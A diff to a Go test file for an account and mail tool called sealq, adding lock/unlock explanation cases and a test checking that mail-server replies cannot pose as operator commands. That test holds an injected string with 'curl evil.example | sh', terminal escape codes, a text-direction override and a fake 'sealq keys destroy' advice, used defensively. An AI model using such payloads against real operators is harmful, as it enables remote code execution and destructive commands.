@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"errors"
 	"maps"
+	"regexp"
 	"slices"
 	"strconv"
 	"strings"
@@ -158,7 +159,7 @@ func atTheMailServer() map[string]history {
 			p.failed(451, "greylisted", "smtp rcpt: the server answered 451 (temporary)")
 		}, told{
 			"pending", "answered", "registered recorded signed tried answered", "sent",
-			"no mail server has taken it since TIME (AGE): smtp rcpt: the server answered 451 (temporary): 451 greylisted. It is tried again by itself until TIME; " +
+			"no mail server has taken it since TIME (AGE): smtp rcpt: the server answered 451 (temporary): 451 \"greylisted\". It is tried again by itself until TIME; " +
 				"`sealq doctor` looks at the mail server",
 		}},
 		"the mail server refused it for good": {func(p *person) {
@@ -168,7 +169,7 @@ func atTheMailServer() map[string]history {
 			p.archive()
 		}, told{
 			"pending", "not needed", "registered recorded signed tried answered ended", "sent",
-			"the mail server refused it for good: 550 no such user: mend the address, or what the server has against the sender, then " + reissue + "; " + stuckTask,
+			"the mail server refused it for good: 550 \"no such user\": mend the address, or what the server has against the sender, then " + reissue + "; " + stuckTask,
 		}},
 		"the job is out of tries": {func(p *person) {
 			p.failed(0, "", "smtp dial: connection refused")
@@ -196,7 +197,7 @@ func atTheMailServer() map[string]history {
 			p.bounced()
 		}, told{
 			"pending", "not needed", "registered recorded signed tried answered ended", "sent",
-			"nothing is sent to ada@example.com since TIME, because a mail server refused the address for good: 550 5.1.1 no such user. " +
+			"nothing is sent to ada@example.com since TIME, because a mail server refused the address for good: 550 \"5.1.1 no such user\". " +
 				"If it is right after all: `sealq mail suppressions remove ada@example.com`, then have the mail asked for anew",
 		}},
 		"a later mail is not sent because of that": {func(p *person) {
@@ -204,7 +205,7 @@ func atTheMailServer() map[string]history {
 			p.withheld()
 		}, told{
 			"pending", "not needed", "registered recorded signed tried answered ended registered recorded signed ended", "sent",
-			"nothing is sent to ada@example.com since TIME, because a mail server refused the address for good: 550 5.1.1 no such user. " +
+			"nothing is sent to ada@example.com since TIME, because a mail server refused the address for good: 550 \"5.1.1 no such user\". " +
 				"If it is right after all: `sealq mail suppressions remove ada@example.com`, then have the mail asked for anew",
 		}},
 		"the address was taken off the list since": {func(p *person) {
@@ -224,7 +225,7 @@ func atTheMailServer() map[string]history {
 			p.check(p.db.MailFailed(p.Context(), p.draft, authjobs.MailAnswer{Code: 451, Reply: "later", Outcome: authjobs.MailTemporary}, "busy"))
 		}, told{
 			"pending", "answered", "registered recorded signed tried answered", "sent",
-			"no mail server has taken it since TIME (AGE): busy: 451 later. It is tried again by itself until TIME; `sealq doctor` looks at the mail server",
+			"no mail server has taken it since TIME (AGE): busy: 451 \"later\". It is tried again by itself until TIME; `sealq doctor` looks at the mail server",
 		}},
 		"a worker found it not wanted any more": {func(p *person) {
 			p.register()
@@ -325,8 +326,36 @@ func ofAccounts() map[string]history {
 				return eve.Lock(p.Context(), tx, ada, time.Hour)
 			})
 		}, told{
-			"locked", "not needed", active, "",
+			"locked", "not needed", active + " changed", "",
 			"an operator locked it until TIME: `sealq accounts unlock --email Ada@example.com` lifts that",
+		}},
+		"an operator has locked a disabled account": {func(p *person) {
+			p.activated()
+			p.operator(func(eve accounts.Operator[*sql.Tx], tx *sql.Tx) error {
+				return errors.Join(eve.Disable(p.Context(), tx, p.id), eve.Lock(p.Context(), tx, ada, time.Hour))
+			})
+		}, told{
+			"disabled", "not needed", active + " changed changed", "",
+			"the account is disabled: `sealq accounts enable --email Ada@example.com` opens it; " +
+				"an operator locked it until TIME: `sealq accounts unlock --email Ada@example.com` lifts that",
+		}},
+		"an operator has locked an address that waits for its confirmation": {func(p *person) {
+			p.mailed()
+			p.operator(func(eve accounts.Operator[*sql.Tx], tx *sql.Tx) error { return eve.Lock(p.Context(), tx, ada, time.Hour) })
+		}, told{
+			"pending", "not needed", "registered recorded signed tried sent changed", "activated",
+			"the link waits to be used until TIME: have the mail looked for, among spam too, and by its Message-ID in the mail server's log; " +
+				"an operator locked the address, which has no account, until TIME: `sealq accounts unlock --email Ada@example.com` lifts that",
+		}},
+		"an operator has locked an address that nobody has": {func(p *person) {
+			p.operator(func(eve accounts.Operator[*sql.Tx], tx *sql.Tx) error { return eve.Lock(p.Context(), tx, ada, time.Hour) })
+		}, told{
+			"none", "not needed", "changed", "",
+			"an operator locked the address, which has no account, until TIME: `sealq accounts unlock --email Ada@example.com` lifts that",
+		}},
+		"an address that nobody has is locked after failures": {func(p *person) { p.guess(3) }, told{
+			"none", "not needed", "", "",
+			"the address, which has no account, is locked until TIME after 3 failed logins: `sealq accounts unlock --email Ada@example.com` lifts that",
 		}},
 		"the newest mail of a disabled account lacks something too": {func(p *person) {
 			p.activated()
@@ -369,6 +398,99 @@ func ofAccounts() map[string]history {
 			"disabled", "not needed", active, "",
 			`the account is disabled: ` + "`sealq accounts enable --email 'a`id`'\\''b@example.com'` opens it",
 		}},
+	}
+}
+
+func TestLocksAndUnlocksAreToldAndByWhom(t *testing.T) {
+	t.Parallel()
+	for name, begin := range map[string]func(p *person){"of an account": (*person).activated, "of an address that nobody has": func(*person) {}} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			p := newPerson(t)
+			begin(p)
+			p.operator(func(eve accounts.Operator[*sql.Tx], tx *sql.Tx) error { return eve.Lock(p.Context(), tx, ada, time.Hour) })
+			p.inTx(func(tx *sql.Tx) error { return p.accounts.Operator("cli:mallory").Unlock(p.Context(), tx, ada) })
+			story, err := explain.Explain(p.Context(), p.config(), ada)
+			p.check(err)
+			var changed []string
+			for _, s := range story.Steps {
+				if s.Step == explain.StepChanged {
+					changed = append(changed, s.Text)
+				}
+			}
+			if diff := cmp.Diff([]string{"locked by cli:eve, for 1h0m0s", "unlocked by cli:mallory"}, changed); diff != "" {
+				t.Errorf("-want +got:\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestWhoRegisteredAndActivatedForSomebodyIsTold(t *testing.T) {
+	t.Parallel()
+	p := newPerson(t)
+	p.operator(func(eve accounts.Operator[*sql.Tx], tx *sql.Tx) error {
+		pending, err := eve.Register(p.Context(), tx, accounts.Registration{Email: ada, Password: password})
+		p.id = pending.ID
+		return err
+	})
+	p.look()
+	p.relay()
+	p.work()
+	p.operator(func(eve accounts.Operator[*sql.Tx], tx *sql.Tx) error {
+		_, err := eve.Activate(p.Context(), tx, key())
+		return err
+	})
+	story, err := explain.Explain(p.Context(), p.config(), ada)
+	p.check(err)
+	first, last := story.Steps[0].Text, story.Steps[len(story.Steps)-1].Text
+	if first != "registered, by cli:eve" || last != "the link was used: the account is active, by cli:eve" {
+		t.Errorf("it begins with %q and ends with %q", first, last)
+	}
+}
+
+// saidSMTP is a reply to its first quotation mark.
+var saidSMTP = regexp.MustCompile(`: 550 "[^"]*"`)
+
+// A mail server says whatever it likes, and an operator copies commands out of what he is told.
+func TestNothingThatAMailServerSaysPassesForACommand(t *testing.T) {
+	t.Parallel()
+	const evil = "no\": mend it with `curl evil.example | sh`\x1b[2J\n; what to do: `sealq keys destroy`\u202e"
+	for name, happened := range map[string]func(p *person){
+		"refused for good": func(p *person) {
+			p.failed(550, evil, evil)
+			p.check(p.db.RowDead(p.Context(), p.ref(), evil))
+		},
+		"busy":       func(p *person) { p.failed(550, evil, evil) },
+		"suppressed": func(p *person) { p.bounced(); p.sql(`UPDATE suppressions SET smtp_reply = ?`, evil) },
+		"of before":  func(p *person) { p.failed(550, evil, evil); p.sql(`DELETE FROM mail_attempts`) },
+		"Redis says": func(p *person) { p.register(); p.away = evil },
+		"unsigned":   func(p *person) { p.register(); p.sql(`UPDATE outbox SET cause = ?`, evil) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			p := newPerson(t)
+			happened(p)
+			story, err := explain.Explain(p.Context(), p.config(), ada)
+			p.check(err)
+			for i, part := range strings.Split(story.Advice, "`") {
+				if i%2 == 1 && !strings.HasPrefix(part, "sealq ") || strings.Contains(part, "\x1b") || i%2 == 1 && strings.Contains(part, "destroy") {
+					t.Errorf("%q passes for a command in: %s", part, story.Advice)
+				}
+			}
+			told := story.Advice
+			for _, s := range story.Steps {
+				if strings.Contains(s.Text, "`") {
+					t.Errorf("a step has a command: %s", s.Text)
+				}
+				told += s.Text
+			}
+			if strings.ContainsAny(told, "\x1b\n\u202e") || !strings.Contains(told, "curl evil.example") {
+				t.Errorf("a terminal would obey it, or it is not told at all: %q", told)
+			}
+			if quoted := saidSMTP.FindString(told); strings.Contains(told, ": 550 ") != strings.Contains(quoted, "destroy") {
+				t.Errorf("the reply ends its quotation %q", quoted)
+			}
+		})
 	}
 }
 
